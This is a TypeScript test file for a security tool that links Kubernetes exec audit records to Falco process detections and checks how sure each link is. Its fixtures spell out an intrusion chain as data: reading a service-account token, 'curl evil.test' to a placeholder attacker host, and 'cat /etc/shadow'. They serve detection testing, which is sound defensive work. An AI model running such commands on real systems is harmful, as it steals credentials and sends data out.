import { describe, expect, it } from 'vitest';
import type { Json } from '@/lib/core/json';
import { falco } from '@/lib/events/shapes/falco';
import { k8sAudit } from '@/lib/events/shapes/k8s-audit';
import { corpusAt, drafts, fixture } from '@/lib/events/testing/read';
import { parseTime, splitNanos } from '@/lib/events/time';
import type { EventRow } from '@/lib/events/view-types';
import { execOf, isExec, seenOf } from '@/lib/timeline/trace/records';
import { traceExec } from '@/lib/timeline/trace/trace';
import type { ExecRequest, Seen, TraceNode } from '@/lib/timeline/trace/types';

const at = (seconds: number) => `2026-11-22T10:00:${seconds.toFixed(9).padStart(12, '0')}Z`;

let serial = 0;
function exec(second: number, more: Partial<ExecRequest> = {}): ExecRequest {
  serial += 1;
  const place = { namespace: 'shop', pod: 'web-1', container: 'web' };
  return {
    ref: `e.audit.${serial}.1`,
    auditId: `a${serial}`,
    time: at(second),
    user: 'kate',
    sourceAddress: '203.0.113.9',
    ...place,
    command: '/bin/bash',
    allowed: true,
    ...more,
  };
}

function seen(second: number, command: string, more: Partial<Seen> = {}): Seen {
  serial += 1;
  const place = { namespace: 'shop', pod: 'web-1', containers: ['web', 'c0ffee'] };
  const nothing = { file: '', sourceAddress: '', targetAddress: '', pid: null, parentPid: null };
  return {
    ref: `e.detection.${serial}.1`,
    time: at(second),
    ...place,
    ...nothing,
    command,
    name: command.split(' ')[0] ?? '',
    parentName: '',
    title: 'Rule',
    severity: 2,
    ...more,
  };
}

const shape = ({ command, link, acts, children }: TraceNode): unknown => [
  command,
  link,
  acts.length,
  children.map(shape),
];

describe('an exec', () => {
  it('leads to the process with its command in its container, and to all below it by number', () => {
    const asked = exec(10);
    const start = seen(10.4, 'bash', { parentName: 'runc', pid: 100, parentPid: 90 });
    const trace = traceExec(
      asked,
      [asked],
      [
        seen(9, 'nginx', { parentName: 'nginx', pid: 7, parentPid: 1 }),
        start,
        seen(11, 'cat /var/run/secrets/token', {
          parentName: 'bash',
          pid: 101,
          parentPid: 100,
          file: '/var/run/secrets/token',
        }),
        seen(12, 'sh -c curl', { parentName: 'bash', pid: 102, parentPid: 100 }),
        seen(13, 'curl evil.test', { parentName: 'sh', pid: 103, parentPid: 102, targetAddress: '198.51.100.7' }),
        seen(14, 'bash', { parentName: 'runc', pid: 100, parentPid: 90, file: '/tmp/x' }),
        seen(15, 'nginx', { parentName: 'bash', pid: 8, parentPid: 1 }),
      ],
    );
    expect(trace.confidence).toBe('exact');
    expect(trace.processes.map(shape)).toEqual([
      [
        'bash',
        'start',
        2,
        [
          ['cat /var/run/secrets/token', 'pid', 1, []],
          ['sh -c curl', 'pid', 1, [['curl evil.test', 'pid', 1, []]]],
        ],
      ],
    ]);
    // Its number says that its parent is another one, whatever that is called.
    expect(trace.loose.map(({ command }) => command)).toEqual(['nginx']);
    expect(trace.candidates).toEqual([]);
  });

  it('without numbers is followed by the names of parents, and says so', () => {
    const asked = exec(10);
    const trace = traceExec(
      asked,
      [asked],
      [seen(10.1, 'bash', { parentName: 'runc' }), seen(11, 'id', { parentName: 'bash' })],
    );
    expect(trace.processes.map(shape)).toEqual([['bash', 'start', 1, [['id', 'name', 1, []]]]]);
  });

  it('with another command, or of a container that is not named, is sure of the pod alone', () => {
    for (const asked of [
      exec(10, { command: 'python3' }),
      exec(10, { container: '' }),
      exec(10, { container: 'sidecar' }),
    ])
      expect(traceExec(asked, [asked], [seen(13, 'bash')]).confidence).toBe('pod');
    const old = exec(10);
    expect(traceExec(old, [old], [seen(10, 'bash', { containers: ['k8s_web_web-1_shop_1'] })]).confidence).toBe(
      'exact',
    );
  });

  it('that overlaps with another is ambiguous: all who may have started it are named', () => {
    const [kate, ben] = [exec(10), exec(12, { user: 'ben' })];
    const trace = traceExec(kate, [ben, kate], [seen(12.5, 'bash')]);
    expect(trace.confidence).toBe('ambiguous');
    expect(trace.candidates.map(({ user }) => user)).toEqual(['kate', 'ben']);
    expect(traceExec(ben, [ben, kate], [seen(12.5, 'bash')]).candidates).toEqual(trace.candidates);
    // With different commands they are told apart.
    const python = exec(12, { user: 'ben', command: 'python3' });
    expect(traceExec(kate, [kate, python], [seen(12.5, 'bash'), seen(12.6, 'python3')]).confidence).toBe('exact');
    expect(traceExec(python, [kate, python], [seen(12.5, 'bash')]).confidence).toBe('none');
  });

  it('near two processes that both may be its own is ambiguous: both are shown', () => {
    const asked = exec(10);
    const two = [seen(10.2, 'bash', { pid: 1 }), seen(10.9, 'bash', { pid: 2 })];
    const trace = traceExec(asked, [asked], two);
    expect([trace.confidence, trace.processes.length]).toEqual(['ambiguous', 2]);
  });

  it('is one, however many stages of it were recorded', () => {
    const begin = exec(10, { auditId: 'same' });
    const end = exec(14, { auditId: 'same' });
    const trace = traceExec(end, [end, begin], [seen(10.2, 'bash')]);
    expect(trace).toMatchObject({ confidence: 'exact', exec: { ref: begin.ref }, candidates: [] });
  });

  it('is never tied to what is too far away: in time, in another pod or namespace, or started by something else', () => {
    const asked = exec(10);
    const far = [
      seen(15.1, 'bash'),
      seen(4.9, 'bash'),
      seen(10, 'bash', { pod: 'web-2' }),
      seen(10, 'bash', { namespace: 'other' }),
      seen(10, 'bash', { parentName: 'cron' }),
    ];
    for (const one of far)
      expect(traceExec(asked, [asked], [one])).toMatchObject({ confidence: 'none', processes: [] });
  });

  it('that was refused started nothing', () => {
    const asked = exec(10, { allowed: false });
    expect(traceExec(asked, [asked], [seen(10, 'bash')])).toMatchObject({ confidence: 'refused', processes: [] });
  });
});

/** What is stored of a text's records, as the database gives it back. */
function stored(which: typeof falco, text: string) {
  const records = text.trim().startsWith('{"') && text.trim().includes('}\n{') ? text.trim().split('\n') : [text];
  return records.flatMap((raw) =>
    drafts(which, raw).map((draft, index) => {
      const { at: micros, nanos } = splitNanos(parseTime(draft.time) ?? 0n);
      const blank = {
        action: '',
        actor: '',
        sourceAddress: '',
        targetAddress: '',
        host: '',
        cluster: '',
        namespace: '',
        pod: '',
        container: '',
        image: '',
        process: '',
        file: '',
      };
      const event: EventRow = {
        ...blank,
        ...draft,
        ref: `audit.${index}.1`,
        time: micros.replace('Z', `${String(nanos).padStart(3, '0')}Z`),
        timeSaid: '',
        receivedAt: '',
        product: { slug: '', name: '' },
        sender: { shape: which.id, name: '' },
      };
      return { event, raw };
    }),
  );
}

describe('real shapes of records', () => {
  const [asked] = stored(k8sAudit, fixture('k8s-audit/events.jsonl').split('\n')[0] ?? '');

  it('of an exec by WebSocket, and of Falco, meet', () => {
    if (!asked) throw new Error('the fixture is empty');
    expect(isExec(asked.event)).toBe(true);
    const request = execOf(asked);
    const record: Json = {
      rule: 'Terminal shell in container',
      priority: 'Notice',
      output: 'x',
      time: '2026-11-22T10:00:00.500000000Z',
      output_fields: {
        'k8s.ns.name': 'shop',
        'k8s.pod.name': 'web-7d9',
        'container.name': 'web',
        'container.id': 'c0ffee',
        'proc.name': 'sh',
        'proc.cmdline': 'sh -c cat /etc/shadow',
        'proc.pname': '<NA>',
        'proc.pid': 12,
      },
    };
    const [found] = stored(falco, JSON.stringify(record));
    if (!found) throw new Error('Falco said nothing');
    expect(traceExec(request, [request], [seenOf(found)])).toMatchObject({
      confidence: 'exact',
      exec: { user: 'kate@example.test', auditId: '11111111-0000-4000-8000-000000000001' },
      processes: [{ command: 'sh -c cat /etc/shadow', pid: 12 }],
    });
  });
});

const corpus = corpusAt(process.env.LAGEBILD_CORPUS);
describe.skipIf(!corpus.isThere)('the corpus', () => {
  it('has both sides from different clusters: no exec of one is tied to a process of the other', () => {
    const sees = stored(falco, corpus.isThere ? corpus.text('falco/falco_events.jsonl') : '')
      .map(seenOf)
      .filter(({ pod }) => pod !== '');
    const [exec] = stored(k8sAudit, corpus.isThere ? corpus.text('k8s-audit/exec_pod.json') : '');
    if (!exec) throw new Error('the exec is missing');
    expect(traceExec(execOf(exec), [], sees).confidence).toBe('none');
    // Real shells of real pods: an exec beside each of them is tied to that one.
    const shells = sees.filter(({ title }) => title === 'Terminal shell in container');
    expect(shells.length).toBeGreaterThan(3);
    for (const shell of shells) {
      const { namespace, pod, time, command } = shell;
      const request: ExecRequest = {
        ...execOf(exec),
        namespace,
        pod,
        time,
        command,
        container: shell.containers[0] ?? '',
      };
      const trace = traceExec(request, [request], sees);
      expect(trace.confidence).toBe('exact');
      expect(trace.processes[0]?.ref).toBe(shell.ref);
    }
  });
});
